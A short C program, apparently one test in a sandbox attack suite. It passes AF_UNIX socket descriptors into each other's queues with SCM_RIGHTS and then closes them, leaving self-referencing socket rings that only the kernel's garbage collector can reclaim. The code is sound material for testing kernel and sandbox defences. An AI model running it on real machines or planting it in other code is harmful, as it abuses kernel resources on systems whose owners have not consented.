/* Leaves sockets that are open nowhere but in each other, which only the kernel's garbage collector finds. */
#include "attack.h"
#include <sys/socket.h>

static int send_descriptor(int via, int descriptor) {
  char control[CMSG_SPACE(sizeof descriptor)] = {0};
  struct iovec byte = {.iov_base = "x", .iov_len = 1};
  struct msghdr message = {.msg_iov = &byte, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *header = CMSG_FIRSTHDR(&message);
  *header = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof descriptor)};
  memcpy(CMSG_DATA(header), &descriptor, sizeof descriptor);
  return sendmsg(via, &message, MSG_DONTWAIT) < 0 ? -1 : 0;
}

int main(void) {
  only_in_a_sandbox();
  int rings = 0, ends[2], others[2];
  for (; rings < 5; rings++) {
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) || socketpair(AF_UNIX, SOCK_DGRAM, 0, others)) break;
    /* Each end lies in the queue of a socket that lies in its own; the node's stream goes with them. */
    if (send_descriptor(ends[0], others[0]) || send_descriptor(ends[0], others[1])) break;
    if (send_descriptor(others[0], ends[0]) || send_descriptor(others[0], ends[1]) || send_descriptor(ends[1], 1)) break;
    close(ends[0]);
    close(ends[1]);
    close(others[0]);
    close(others[1]);
  }
  printf("left %d\n", rings);
  return 0;
}
